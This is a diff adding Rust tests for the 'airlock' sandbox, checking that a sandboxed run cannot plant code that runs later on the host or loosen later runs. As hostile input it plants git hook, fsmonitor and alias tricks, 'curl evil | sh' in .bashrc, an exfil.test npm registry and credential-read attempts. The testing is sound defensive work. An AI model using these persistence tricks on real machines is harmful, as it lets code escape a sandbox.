@@ -1,0 +1,621 @@
+//! Nothing the sandbox leaves behind runs later or widens a later run
+//! (SPEC §3.5, §4.5). Every case runs as root and as an ordinary user, with
+//! a hostile command inside, and then checks the host: git run by the user
+//! runs nothing, the next run is still sandboxed, no file outside changed.
+
+use std::path::{Path, PathBuf};
+use std::process::Command;
+
+use airlock_tests::who::Who;
+use airlock_tests::*;
+
+fn base() -> PathBuf {
+    std::env::var_os("AIRLOCK_TEST_DIR")
+        .map(PathBuf::from)
+        .unwrap_or_else(|| PathBuf::from("/var/tmp/airlock-escape"))
+}
+
+fn show(out: &Out) -> String {
+    format!(
+        "code {}\n--- stdout\n{}--- stderr\n{}",
+        out.code, out.stdout, out.stderr
+    )
+}
+
+fn sandboxed(f: &Fixture, who: Who, args: &[&str], script: &str) -> Out {
+    run(&mut who.wrap(f.command(args, script)))
+}
+
+fn host(f: &Fixture, who: Who, dir: &Path, program: &str, args: &[&str]) -> Out {
+    run(&mut who.host(f, dir, program, args))
+}
+
+fn git_available() -> bool {
+    Command::new("git").arg("--version").output().is_ok()
+}
+
+/// A fixture with a committed repository as the workspace.
+fn repo(who: Who) -> Fixture {
+    let f = Fixture::new_in(&base());
+    who.prepare(&f);
+    let g = |args: &[&str]| {
+        let out = host(&f, who, &f.ws, "git", args);
+        assert_eq!(out.code, 0, "git {args:?}: {}", show(&out));
+    };
+    g(&["init", "-q", "."]);
+    g(&[
+        "-c",
+        "user.email=t@t",
+        "-c",
+        "user.name=t",
+        "commit",
+        "-q",
+        "--allow-empty",
+        "-m",
+        "init",
+    ]);
+    f
+}
+
+/// The user's next git commands in `dir`: status, commit, diff, log.
+fn host_git_runs_nothing(f: &Fixture, who: Who, dir: &Path, marker: &Path) {
+    for args in [
+        &["status"][..],
+        &[
+            "-c",
+            "user.email=t@t",
+            "-c",
+            "user.name=t",
+            "commit",
+            "-q",
+            "--allow-empty",
+            "-m",
+            "host",
+        ],
+        &["diff", "HEAD"],
+        &["log", "--oneline", "-1"],
+    ] {
+        let _ = host(f, who, dir, "git", args);
+    }
+    assert!(
+        !marker.exists(),
+        "git run on the host executed code the sandbox planted in {}",
+        dir.display()
+    );
+}
+
+const PLANT_GIT: &str = r#"
+M="$MARKER"
+git config core.fsmonitor "touch $M"; git config core.hooksPath "$PWD/evil-hooks"
+git config alias.st "!touch $M"; git config core.pager "touch $M"
+printf '#!/bin/sh\ntouch %s\n' "$M" > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit
+printf '#!/bin/sh\ntouch %s\n' "$M" > .git/hooks/post-checkout
+mkdir -p evil-hooks; printf '#!/bin/sh\ntouch %s\n' "$M" > evil-hooks/pre-commit; chmod +x evil-hooks/pre-commit
+echo "gitdir: evil" > .git/commondir
+printf '[core]\n\tfsmonitor = touch %s\n' "$M" > .git/config.worktree
+mkdir -p .git/info && echo '* filter=evil' > .git/info/attributes
+"#;
+
+#[test]
+fn a_renamed_git_directory_carries_no_protection_away() {
+    if !git_available() {
+        eprintln!("skipped: git is not installed");
+        return;
+    }
+    for who in Who::all() {
+        let f = repo(who);
+        let marker = f.home.join("PWNED");
+        let config_before = std::fs::read(f.ws.join(".git/config")).unwrap();
+        let script = format!(
+            "export MARKER={m}
+             git -c user.email=t@t -c user.name=t commit -q --allow-empty -m inside && echo commit-inside-ok
+             mv .git .git-orig && cp -a .git-orig .git; echo mv=$?
+             mv .git/hooks .git/hooks-old; rm -rf .git/hooks; mv .git/info x 2>/dev/null
+             ln -sfn /tmp .git/hooks 2>/dev/null
+             {PLANT_GIT}",
+            m = marker.display()
+        );
+        let out = sandboxed(&f, who, &["--network", "none"], &script);
+        assert!(
+            out.stdout.contains("commit-inside-ok"),
+            "{who:?}: {}",
+            show(&out)
+        );
+        assert!(!f.ws.join(".git-orig").exists(), "{who:?}: {}", show(&out));
+        assert_eq!(
+            std::fs::read(f.ws.join(".git/config")).unwrap(),
+            config_before,
+            "{who:?}"
+        );
+        assert!(
+            !f.ws.join(".git/hooks/pre-commit").exists(),
+            "{who:?}: {}",
+            show(&out)
+        );
+        assert!(
+            !f.ws.join(".git/commondir").exists(),
+            "{who:?}: {}",
+            show(&out)
+        );
+        assert!(
+            !f.ws.join(".git/config.worktree").exists(),
+            "{who:?}: {}",
+            show(&out)
+        );
+        host_git_runs_nothing(&f, who, &f.ws, &marker);
+        // The commit made inside is there.
+        let log = host(&f, who, &f.ws, "git", &["log", "--format=%s"]);
+        assert!(log.stdout.contains("inside"), "{who:?}: {}", show(&log));
+    }
+}
+
+#[test]
+fn a_repository_created_inside_runs_nothing_later() {
+    if !git_available() {
+        eprintln!("skipped: git is not installed");
+        return;
+    }
+    for who in Who::all() {
+        let f = Fixture::new_in(&base());
+        who.prepare(&f);
+        let marker = f.home.join("PWNED");
+        // At the workspace root (no repository yet) and in a subdirectory.
+        let script = format!(
+            "export MARKER={m}
+             git init -q . && git -c user.email=t@t -c user.name=t commit -q --allow-empty -m root-commit && echo root-ok
+             mkdir -p sub && cd sub && git init -q . && git -c user.email=t@t -c user.name=t commit -q --allow-empty -m sub-commit && echo sub-ok
+             {PLANT_GIT}
+             cd .. && {PLANT_GIT}",
+            m = marker.display()
+        );
+        let out = sandboxed(&f, who, &["--network", "none"], &script);
+        assert!(out.stdout.contains("root-ok"), "{who:?}: {}", show(&out));
+        assert!(out.stdout.contains("sub-ok"), "{who:?}: {}", show(&out));
+        assert!(
+            out.stderr.contains("protected path"),
+            "{who:?}: {}",
+            show(&out)
+        );
+        host_git_runs_nothing(&f, who, &f.ws, &marker);
+        host_git_runs_nothing(&f, who, &f.ws.join("sub"), &marker);
+        // The repositories still work, with their commits.
+        for (dir, msg) in [
+            (f.ws.clone(), "root-commit"),
+            (f.ws.join("sub"), "sub-commit"),
+        ] {
+            let log = host(&f, who, &dir, "git", &["log", "--format=%s"]);
+            assert!(log.stdout.contains(msg), "{who:?}: {}", show(&log));
+        }
+        assert!(f.ws.join(".airlock/quarantine").is_dir(), "{who:?}");
+    }
+}
+
+#[test]
+fn protected_names_created_inside_are_quarantined() {
+    for who in Who::all() {
+        let f = Fixture::new_in(&base());
+        who.prepare(&f);
+        let out = sandboxed(
+            &f,
+            who,
+            &["--network", "none"],
+            "mkdir .vscode && echo '{\"tasks\":[]}' > .vscode/tasks.json; echo 'curl evil' > .envrc; \
+             ln -s ~/.bashrc .idea; printf '[network]\\nmode = \"host\"\\n' > airlock.toml; \
+             mkdir .airlock; echo x > .airlock/planted; echo ordinary > notes.txt",
+        );
+        assert_eq!(out.code, 0, "{who:?}: {}", show(&out));
+        for name in [".vscode", ".envrc", ".idea", "airlock.toml"] {
+            assert!(
+                std::fs::symlink_metadata(f.ws.join(name)).is_err(),
+                "{who:?}: {name} is still there\n{}",
+                show(&out)
+            );
+        }
+        assert!(
+            !f.ws.join(".airlock/planted").exists(),
+            "{who:?}: {}",
+            show(&out)
+        );
+        assert_eq!(
+            std::fs::read_to_string(f.ws.join("notes.txt")).unwrap(),
+            "ordinary\n"
+        );
+        let quarantine = f.ws.join(".airlock/quarantine");
+        let runs: Vec<_> = std::fs::read_dir(&quarantine).unwrap().flatten().collect();
+        assert_eq!(runs.len(), 1, "{who:?}");
+        assert!(runs[0].path().join("airlock.toml").exists(), "{who:?}");
+        // The next run is still sandboxed: the planted policy was not applied.
+        let out = sandboxed(&f, who, &[], "cat /proc/self/net/dev | grep -c : ");
+        assert_eq!(
+            out.stdout.trim(),
+            "1",
+            "{who:?}: only loopback\n{}",
+            show(&out)
+        );
+    }
+}
+
+#[test]
+fn a_background_process_cannot_write_after_the_check() {
+    for who in Who::all() {
+        let f = Fixture::new_in(&base());
+        who.prepare(&f);
+        let out = sandboxed(
+            &f,
+            who,
+            &["--network", "none"],
+            "setsid sh -c 'sleep 0.4; echo late > .envrc; mkdir -p .vscode; echo late > .vscode/x' </dev/null >/dev/null 2>&1 & \
+             nohup sh -c 'sleep 0.4; echo late > .gitmodules' </dev/null >/dev/null 2>&1 & echo started",
+        );
+        assert!(out.stdout.contains("started"), "{}", show(&out));
+        std::thread::sleep(std::time::Duration::from_millis(800));
+        for name in [".envrc", ".vscode", ".gitmodules"] {
+            assert!(!f.ws.join(name).exists(), "{who:?}: {name}\n{}", show(&out));
+        }
+    }
+}
+
+#[test]
+fn project_policy_must_be_trusted_and_stays_trusted_only_as_it_was() {
+    for who in Who::all() {
+        let f = Fixture::new_in(&base());
+        who.prepare(&f);
+        f.write("airlock.toml", "[network]\nallow = [\"one.test\"]\n");
+        if who == Who::Nobody {
+            airlock_tests::who::chown(&f.ws);
+        }
+        let out = sandboxed(&f, who, &["--network", "none"], "echo ran");
+        assert_eq!(out.code, 125, "{who:?}: {}", show(&out));
+        assert!(!out.stdout.contains("ran"));
+        assert!(
+            out.stderr.contains("untrusted project configuration"),
+            "{}",
+            show(&out)
+        );
+        assert!(
+            out.stderr.contains("allows hosts: one.test"),
+            "{}",
+            show(&out)
+        );
+        assert!(
+            out.stderr.contains("airlock policy trust"),
+            "{}",
+            show(&out)
+        );
+
+        let trust = host(
+            &f,
+            who,
+            &f.ws,
+            &airlock_bin().display().to_string(),
+            &["policy", "trust"],
+        );
+        assert_eq!(trust.code, 0, "{who:?}: {}", show(&trust));
+        let out = sandboxed(
+            &f,
+            who,
+            &["--network", "none"],
+            "echo ran; echo 'allow = [\"evil.test\"]' >> airlock.toml; true",
+        );
+        assert_eq!(out.code, 0, "{who:?}: {}", show(&out));
+        assert!(out.stdout.contains("ran"));
+        assert_eq!(
+            std::fs::read_to_string(f.ws.join("airlock.toml")).unwrap(),
+            "[network]\nallow = [\"one.test\"]\n",
+            "{who:?}: the sandbox edited the project policy"
+        );
+        // Changed by any other means since it was trusted: refused, with the change.
+        f.write(
+            "airlock.toml",
+            "[network]\nmode = \"host\"\n[env]\npass = [\"SECRET_TOKEN\"]\n[filesystem]\nwrite = [\"/\"]\n",
+        );
+        if who == Who::Nobody {
+            airlock_tests::who::chown(&f.ws);
+        }
+        let mut cmd = f.command(&[], "echo ran; echo token=$SECRET_TOKEN");
+        cmd.env("SECRET_TOKEN", "hunter2");
+        let out = run(&mut who.wrap(cmd));
+        assert_eq!(out.code, 125, "{who:?}: {}", show(&out));
+        assert!(!out.stdout.contains("hunter2"));
+        assert!(
+            out.stderr.contains("CHANGED since it was trusted"),
+            "{}",
+            show(&out)
+        );
+        assert!(out.stderr.contains("network mode = host"), "{}", show(&out));
+        assert!(out.stderr.contains("SECRET_TOKEN"), "{}", show(&out));
+        assert!(out.stderr.contains("makes writable: /"), "{}", show(&out));
+    }
+}
+
+#[test]
+fn policy_files_and_tool_configs_in_the_workspace_need_trust() {
+    for who in Who::all() {
+        let f = Fixture::new_in(&base());
+        who.prepare(&f);
+        f.write("ci.toml", "[network]\nmode = \"host\"\n");
+        f.write(".npmrc", "registry=https://exfil.test/\n");
+        f.write("~/outside.toml", "[network]\nallow = [\"fine.test\"]\n");
+        if who == Who::Nobody {
+            airlock_tests::who::chown(&f.ws);
+            airlock_tests::who::chown(&f.home);
+        }
+        let out = sandboxed(
+            &f,
+            who,
+            &["--policy", "ci.toml", "--network", "none"],
+            "echo ran",
+        );
+        assert_eq!(out.code, 125, "{who:?}: {}", show(&out));
+        assert!(out.stderr.contains("ci.toml"), "{}", show(&out));
+        let out = sandboxed(
+            &f,
+            who,
+            &["--preset", "npm", "--network", "none"],
+            "echo ran",
+        );
+        assert_eq!(out.code, 125, "{who:?}: {}", show(&out));
+        assert!(
+            out.stderr.contains("allows host exfil.test"),
+            "{}",
+            show(&out)
+        );
+        // A policy file outside every writable root is trusted as given.
+        let outside = f.home.join("outside.toml");
+        let out = sandboxed(
+            &f,
+            who,
+            &["--policy", outside.to_str().unwrap(), "--network", "none"],
+            "echo ran",
+        );
+        assert_eq!(out.code, 0, "{who:?}: {}", show(&out));
+        // `--write` makes a directory a writable root: its files need trust too.
+        let out = sandboxed(
+            &f,
+            who,
+            &[
+                "--write",
+                f.home.to_str().unwrap(),
+                "--policy",
+                outside.to_str().unwrap(),
+                "--network",
+                "none",
+            ],
+            "echo ran",
+        );
+        assert_eq!(out.code, 125, "{who:?}: {}", show(&out));
+    }
+}
+
+#[test]
+fn preset_probes_never_run_workspace_code() {
+    for who in Who::all() {
+        let f = Fixture::new_in(&base());
+        who.prepare(&f);
+        let marker = f.home.join("PWNED");
+        let payload = format!(
+            "open({m:?}, 'w').write('x')\n",
+            m = marker.display().to_string()
+        );
+        for module in [
+            "pip/__init__.py",
+            "pip/_internal/__init__.py",
+            "sitecustomize.py",
+            "usercustomize.py",
+        ] {
+            f.write(module, &payload);
+        }
+        // A planted interpreter and npm on a PATH entry inside the workspace.
+        let bin = f.write(
+            "bin/python3",
+            &format!(
+                "#!/bin/sh\ntouch {}\necho https://evil.test/\n",
+                marker.display()
+            ),
+        );
+        f.write(
+            "bin/npm",
+            &format!(
+                "#!/bin/sh\ntouch {}\necho https://evil.test/\n",
+                marker.display()
+            ),
+        );
+        for p in ["bin/python3", "bin/npm"] {
+            let _ = Command::new("chmod").arg("+x").arg(f.ws.join(p)).status();
+        }
+        if who == Who::Nobody {
+            airlock_tests::who::chown(&f.ws);
+        }
+        let path = format!(
+            "{}:{}",
+            bin.parent().unwrap().display(),
+            std::env::var("PATH").unwrap_or_default()
+        );
+        let a = airlock_bin().display().to_string();
+        for args in [
+            &["policy", "presets"][..],
+            &[
+                "policy",
+                "explain",
+                "--preset",
+                "pypi",
+                "--preset",
+                "npm",
+                "example.test",
+            ],
+        ] {
+            let mut c = who.host(&f, &f.ws, &a, args);
+            c.env("PATH", &path);
+            let out = run(&mut c);
+            assert!(
+                !out.stdout.contains("evil.test"),
+                "{who:?} {args:?}: {}",
+                show(&out)
+            );
+        }
+        let mut c = f.command(
+            &["--preset", "pypi", "--preset", "npm", "--network", "none"],
+            "true",
+        );
+        c.env("PATH", &path);
+        let _ = run(&mut who.wrap(c));
+        assert!(
+            !marker.exists(),
+            "{who:?}: a preset probe ran workspace code on the host"
+        );
+    }
+}
+
+#[test]
+fn deny_read_holds_after_its_parent_is_renamed() {
+    for who in Who::all() {
+        let f = Fixture::new_in(&base());
+        who.prepare(&f);
+        f.write("config/credentials.json", "CREDENTIAL-SECRET");
+        f.write("config/settings.json", "{}");
+        let policy = f.write(
+            "~/deny.toml",
+            "[filesystem]\ndeny_read = [\"config/credentials.json\"]\n",
+        );
+        if who == Who::Nobody {
+            airlock_tests::who::chown(&f.ws);
+            airlock_tests::who::chown(&f.home);
+        }
+        let p = policy.to_str().unwrap();
+        let out = sandboxed(
+            &f,
+            who,
+            &["--policy", p, "--network", "none"],
+            "mv config config-moved; mv config/credentials.json c2; cp -r config c3; ln config/credentials.json c4; \
+             cat config/settings.json && echo settings-readable; echo edit >> config/settings.json && echo settings-writable",
+        );
+        assert!(
+            out.stdout.contains("settings-readable"),
+            "{who:?}: {}",
+            show(&out)
+        );
+        assert!(
+            out.stdout.contains("settings-writable"),
+            "{who:?}: {}",
+            show(&out)
+        );
+        assert!(
+            f.ws.join("config/credentials.json").exists(),
+            "{who:?}: {}",
+            show(&out)
+        );
+        let out = sandboxed(
+            &f,
+            who,
+            &["--policy", p, "--network", "none"],
+            "cat config-moved/credentials.json c2 c3/credentials.json c4 config/credentials.json 2>&1; echo done",
+        );
+        assert!(out.stdout.contains("done"), "{}", show(&out));
+        assert!(
+            !out.stdout.contains("CREDENTIAL-SECRET"),
+            "{who:?}: {}",
+            show(&out)
+        );
+    }
+}
+
+#[test]
+fn a_ca_created_during_a_run_stays_hidden_from_it() {
+    for who in Who::all() {
+        let f = Fixture::new_in(&base());
+        who.prepare(&f);
+        let child = who
+            .wrap(f.command(
+                &["--network", "none"],
+                "sleep 1.5; cat ~/.local/share/airlock/ca/ca-key.pem 2>&1; ls -la ~/.local/share/airlock/ca 2>&1; echo done",
+            ))
+            .stdout(std::process::Stdio::piped())
+            .stderr(std::process::Stdio::piped())
+            .spawn()
+            .unwrap();
+        std::thread::sleep(std::time::Duration::from_millis(500));
+        let a = airlock_bin().display().to_string();
+        let init = host(&f, who, &f.ws, &a, &["ca", "init"]);
+        assert_eq!(init.code, 0, "{who:?}: {}", show(&init));
+        let out = child.wait_with_output().unwrap();
+        let stdout = String::from_utf8_lossy(&out.stdout);
+        let key =
+            std::fs::read_to_string(f.home.join(".local/share/airlock/ca/ca-key.pem")).unwrap();
+        let body = key.lines().nth(1).unwrap();
+        assert!(stdout.contains("done"), "{stdout}");
+        assert!(
+            !stdout.contains(body),
+            "{who:?}: the sandbox read the CA key\n{stdout}"
+        );
+    }
+}
+
+#[test]
+fn root_and_home_are_workspaces_only_when_named() {
+    for who in Who::all() {
+        let f = Fixture::new_in(&base());
+        who.prepare(&f);
+        for dir in [PathBuf::from("/"), f.home.clone()] {
+            let mut c = f.command(&["--network", "none"], "echo ran");
+            c.current_dir(&dir);
+            let out = run(&mut who.wrap(c));
+            assert_eq!(
+                out.code,
+                125,
+                "{who:?} in {}: {}",
+                dir.display(),
+                show(&out)
+            );
+            assert!(out.stderr.contains("--workspace"), "{}", show(&out));
+        }
+        let mut c = f.command(
+            &["--network", "none", "--workspace", f.home.to_str().unwrap()],
+            "echo ran",
+        );
+        c.current_dir(&f.home);
+        let out = run(&mut who.wrap(c));
+        assert!(out.stdout.contains("ran"), "{who:?}: {}", show(&out));
+    }
+}
+
+#[test]
+fn home_as_the_workspace_protects_its_startup_files_and_airlocks_own() {
+    for who in Who::all() {
+        let f = Fixture::new_in(&base());
+        f.write("~/.bashrc", "# rc\n");
+        f.write("~/.config/airlock/policy.toml", "[network]\nallow = []\n");
+        who.prepare(&f);
+        let home = f.home.to_str().unwrap();
+        let out = sandboxed(
+            &f,
+            who,
+            &["--network", "none", "--workspace", home],
+            "mv .config .config-x; mkdir -p .config-y/airlock; echo 'allow=[\"evil.test\"]' > .config-y/airlock/policy.toml; \
+             mv .config-y .config 2>/dev/null; echo 'curl evil | sh' >> .bashrc; rm -f .bashrc; \
+             echo '[core] pager = evil' > .gitconfig; mkdir -p .local/bin && echo evil > .local/bin/git; \
+             echo ok > work.txt && echo wrote",
+        );
+        assert!(out.stdout.contains("wrote"), "{who:?}: {}", show(&out));
+        assert_eq!(
+            std::fs::read_to_string(f.home.join(".bashrc")).unwrap(),
+            "# rc\n",
+            "{who:?}"
+        );
+        assert_eq!(
+            std::fs::read_to_string(f.home.join(".config/airlock/policy.toml")).unwrap(),
+            "[network]\nallow = []\n",
+            "{who:?}: {}",
+            show(&out)
+        );
+        assert!(
+            !f.home.join(".gitconfig").exists(),
+            "{who:?}: {}",
+            show(&out)
+        );
+        assert!(
+            !f.home.join(".local/bin/git").exists(),
+            "{who:?}: {}",
+            show(&out)
+        );
+    }
+}
